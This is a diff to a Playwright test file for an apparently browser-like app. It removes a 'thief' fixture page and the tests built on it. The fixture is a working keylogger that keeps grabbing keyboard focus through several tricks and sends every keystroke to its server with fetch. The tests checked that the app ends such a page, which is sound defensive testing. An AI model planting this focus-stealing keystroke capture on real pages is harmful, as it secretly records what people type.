@@ -17,7 +17,7 @@ import type { RunningNetwork } from "./fixtures/network.ts";
 let farm: Farm;
 let network: RunningNetwork;
 test.beforeAll(async () => {
-  farm = await startFarm([web("desk.test", desk), web("shelf.test", shelf), web("thief.test", thief)]);
+  farm = await startFarm([web("desk.test", desk), web("shelf.test", shelf)]);
   network = await startNetworkTo(farm);
 });
 test.afterAll(async () => {
@@ -37,30 +37,6 @@ function desk(exchange: Exchange): void {
 function shelf(exchange: Exchange): void {
   html(exchange, document("Shelf", `<h1>Shelf</h1><p><a href="/other">Other</a></p>`));
 }
-
-const THIEVES = {
-  "by its window": "focus()",
-  "by a field": "field.focus()",
-  "by a frame in it": "window[0].focus()",
-  "by the boot page of its origin": `for (let i = 0; i < top.length; i++) try { top[i].document; if (top[i] !== window) top[i].focus(); } catch {}`,
-};
-
-/** A page that takes the keyboard again and again, and tells its server of each letter. */
-function thief(exchange: Exchange): void {
-  const steal = THIEVES[decodeURIComponent(exchange.url.search.slice(1)) as keyof typeof THIEVES];
-  const body = `<h1>Thief</h1><input id="field"><iframe></iframe><script>
-    const listen = (w) => w.addEventListener("keydown", ({ key }) => fetch("/heard?" + key), true);
-    const all = () => [window, window[0], ...Array.from({ length: top.length }, (_, i) => top[i])];
-    for (const w of all()) try { if (w !== window[0] || w.document) listen(w); } catch {}
-    const { port1, port2 } = new MessageChannel();
-    port1.onmessage = () => { ${steal}; setTimeout(() => port2.postMessage(0), 4); };
-    port2.postMessage(0);
-  </script>`;
-  html(exchange, document("Thief", body));
-}
-
-const heardByThief = (): number =>
-  farm.visitsTo("thief.test").filter(({ path }) => path === "/heard?k").length;
 
 /** One person at a keyboard. */
 class Person {
@@ -228,64 +204,3 @@ for (const level of ["safest", "standard"] as const) {
     await expect(page.locator("iframe[data-tab]")).toHaveCount(0);
   });
 }
-
-const LETTERS = "k".repeat(40);
-
-/** Of what is typed into the address bar, how many letters came to the page; none is lost. */
-async function stolen(person: Person): Promise<number> {
-  const before = heardByThief();
-  const field = person.page.getByTestId("address");
-  await person.page.keyboard.type(LETTERS, { delay: 40 });
-  await expect(field).toBeFocused();
-  const kept = (await field.inputValue()).length;
-  await expect.poll(() => kept + heardByThief() - before).toBeGreaterThanOrEqual(LETTERS.length - 2);
-  const heard = heardByThief() - before;
-  test.info().annotations.push({ type: "letters", description: `${kept} kept, ${heard} heard by the page` });
-  return LETTERS.length - kept;
-}
-
-for (const way of Object.keys(THIEVES))
-  test(`a page that takes the keyboard ${way} is stopped, and letters go where they are typed`, async ({
-    context,
-  }) => {
-    const person = await Person.at(context, "standard");
-    const { page } = person;
-    await person.go(`thief.test/?${encodeURIComponent(way)}`);
-    await person.heading("Thief");
-    await page.getByTestId("address").focus();
-    expect(await stolen(person)).toBeLessThanOrEqual(2);
-    await expect(page.getByTestId("page")).toHaveAttribute("data-kind", "ended");
-    // The person may have it again.
-    await page.getByTestId("again").click();
-    await person.heading("Thief");
-  });
-
-test("a page that takes the keyboard from a tab that is not shown is stopped", async ({ context }) => {
-  const person = await Person.at(context, "standard");
-  const { page } = person;
-  await person.go(`thief.test/?${encodeURIComponent("by its window")}`);
-  await person.heading("Thief");
-  const before = heardByThief();
-  await page.getByTestId("new-tab").first().click();
-  // Chromium may give the keyboard to nobody then, until the person clicks; the page has not got it.
-  await page.keyboard.type(LETTERS, { delay: 40 });
-  await page.getByRole("tab", { name: /thief/i }).click();
-  await expect(page.getByTestId("page")).toHaveAttribute("data-kind", "ended");
-  expect(heardByThief() - before).toBeLessThanOrEqual(2);
-});
-
-test("a page at Standard has the keyboard once a person presses it", async ({ context }) => {
-  const person = await Person.at(context, "standard");
-  const { page, shown } = person;
-  await person.go("desk.test");
-  await person.heading("Desk");
-  await page.getByTestId("address").focus();
-  await person.type("half an addr");
-  const box = await page.locator("[data-testid=page-frame][data-shown]").boundingBox();
-  if (box === null) throw new Error("no page is shown");
-  await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
-  await person.hasPage();
-  await person.tabTo(shown.getByRole("link", { name: "Shelf" }));
-  await person.press("Enter");
-  await person.heading("Shelf");
-});
